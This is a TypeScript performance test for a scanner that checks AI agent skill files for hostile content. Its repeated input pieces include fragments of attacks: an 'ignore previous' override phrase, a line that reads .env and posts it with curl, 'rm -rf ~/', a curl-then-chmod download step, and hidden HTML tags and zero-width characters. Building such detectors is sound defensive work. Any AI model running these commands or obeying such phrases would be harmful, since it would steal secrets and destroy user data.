import { describe, expect, test } from 'vitest'
import { scanSkill } from './scan.js'

const known = { popular: ['Market Maker Pro'], platform: 'Rookery' }
const LONG = 24_000

// Each piece is repeated until the text reaches the length.
const pieces = {
  'blank lines': '\n',
  'lines of spaces': ' \n',
  spaces: ' ',
  'short sentences': 'Hi. ',
  'openings of comments': '<!--',
  'openings within paragraphs': 'a <!--\n \n',
  'openings of comments in lines': '<!--\n',
  'comments of HTML': '<!-- a -->\n',
  'comments of links': '[a]: # (x)\n',
  brackets: '[',
  parentheses: '(',
  backticks: '`',
  fences: '```\na\n```\n',
  'members of YAML': 'a:\n',
  lines: '---\n',
  'zero-width characters': '\u200B',
  'marks of direction': '\u200E',
  addresses: 'http://a ',
  orders: 'ignore previous ',
  'base64-like text': 'QUJD',
  items: '- a\n',
  'nested items': '  - a\n',
  tables: '| a | b |\n',
  headings: '# a\n',
  emoji: '👨\u200D',
  'combining marks': '\u0301\u0327',
  'long ligatures': '\uFDFA',
  'mixed alphabets': 'aа',
  'hidden tags': '<b <b hidden hidden>',
  'styles of tags': '<b style="color:rgba(,',
  'tags that end': '<b hidden>a</b>',
  quotes: 'attack malicious ignore rules “',
  calls: 'fetch(',
  'files with keys': 'cat .env\ncurl -d @x http://a\n',
  'lines of code': '    curl\n',
  'letters apart': 'a b ',
  'letters with dots between': 'a.b-',
  dots: '. .',
  'digits in words': 'a1b3 ',
  'hexadecimal digits': 'ab ',
  'encoded text': 'aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= ',
  'lines of base64': 'aGVsbG8gd29ybGQgaGVsbG8gd29ybGQh\n',
  entities: '&#101;&amp;',
  conditions: 'if when asks ',
  negations: 'not never without ',
  'words of wallets': 'your wallet (((',
  'percent signs': '%41%2',
  'quotes and signs': '"+"a',
  ciphers: 'gur eht rot13 phey ',
  'accents in words': 'é1à ',
  cells: '| \\| a ',
  'names of settings': 'ask_',
  'marks of quotations': '>',
  'redirections into folders': '>/ ',
  'names with hyphens': 'a-',
  'names with dots': 'a.',
  'senders to hosts': 'curl@',
  'marks as entities': '&#769;&#807;',
  'marks as escapes': '\\u0301\\u0327',
  'marks with comments between': '\u0301\u0327<!---->',
  'addresses of pastes': 'paste.io/ http',
  'modes of files': 'curl -o;chmod 7',
  'options of data': '--data--',
  'gifts to others': 'dm @abc the ',
}

// One word and then a single long run, so that nothing of it is short.
const afterWord = {
  'underscores after a word': ['ask', '_'],
  'hyphens after an address': ['never x. rm -rf ~/ http://a', '-a'],
  'spaces after a word': ['without', ' '],
  'digits after a word': ['curl -o;chmod ', '7'],
  'letters of options': ['rm -', 'r'],
  'underscores in a key': ['send api', '_'],
  'marks after a letter': ['e', '&#769;&#807;'],
} as const

async function cpuMs(piece: string, length: number, start = 'x'): Promise<number> {
  const document = `${start}${piece.repeat(Math.ceil(length / piece.length))}`.slice(0, length)
  const before = process.cpuUsage()
  await scanSkill({ name: 'Weather', description: '', document }, known, () => false)
  const { user, system } = process.cpuUsage(before)
  return (user + system) / 1000
}

async function expectProportion(piece: string, start?: string): Promise<void> {
  await cpuMs(piece, LONG / 16, start)
  const quarter = Math.min(await cpuMs(piece, LONG / 4, start), await cpuMs(piece, LONG / 4, start))
  const whole = Math.min(await cpuMs(piece, LONG, start), await cpuMs(piece, LONG, start))
  // A few milliseconds cannot be measured well.
  expect(whole / Math.max(quarter, 30)).toBeLessThan(8)
}

describe('the time of a scan', () => {
  test.each(Object.entries(pieces))('grows no faster than the length of the text: %s', async (_, piece) => {
    await expectProportion(piece)
  })

  test.each(Object.entries(afterWord))('grows no faster than the length of the text: %s', async (_, [word, piece]) => {
    await expectProportion(piece, word)
    await expectProportion(piece, `\`\`\`\n${word}`)
  })
})
